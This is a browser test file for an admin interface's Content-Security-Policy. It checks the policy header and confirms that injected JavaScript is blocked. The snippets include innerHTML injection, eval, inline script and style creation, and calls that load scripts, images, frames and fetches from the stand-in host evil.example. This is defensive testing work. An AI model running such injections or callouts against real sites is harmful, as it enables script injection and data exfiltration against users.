"""The content security policy: as specified, and whatever it stops fails the test that meets it."""

from contextlib import suppress

import pytest
from playwright.async_api import Error

from dev.places import ROOT
from tests.browser import scenes
from tests.browser.screen import screen_on

pytestmark = pytest.mark.asyncio(loop_scope="session")

POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:;"
    " connect-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none';"
    " require-trusted-types-for 'script'"
)
PAGES = [file.stem for file in sorted((ROOT / "public" / "admin").glob("*.html"))]
#: What a script that got in would do.
ATTACKS = {
    "markup as text": "document.getElementById('viewer').innerHTML = '<b>hello</b>'",
    "text as code": "setTimeout(() => eval('1 + 1'))",
    "an inline script": """
        const script = document.createElement("script");
        script.append("window.hacked = true");
        document.body.append(script);
    """,
    "an inline style": "document.body.append(document.createElement('style'))",
    "a script from elsewhere": """
        document.body.append(
            Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }),
        );
    """,
    "a picture from elsewhere": "new Image().src = 'https://evil.example/x.png'",
    "a letter home": "fetch('https://evil.example/').catch(() => {})",
    "another base": """
        document.head.append(
            Object.assign(document.createElement("base"), { href: "https://evil.example/" }),
        );
    """,
    "a frame": """
        document.body.append(
            Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }),
        );
    """,
}


@pytest.mark.parametrize("name", PAGES)
async def test_each_page_has_it(browser, address, name):
    async with screen_on(browser, address) as screen:
        answer = await screen.page.goto(f"{address}/admin/{name}")

        assert answer.headers["content-security-policy"] == POLICY


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
async def test_what_it_stops_is_heard(browser, address, attack):
    async with screen_on(browser, address) as screen:
        await scenes.bad(screen)
        assert screen.complaints == []

        with suppress(Error):
            await screen.page.evaluate(f"() => {{ {attack} }}")
        await screen.drawn()

        assert screen.complaints
        assert not await screen.page.evaluate("Boolean(window.hacked)")
        screen.complaints.clear()
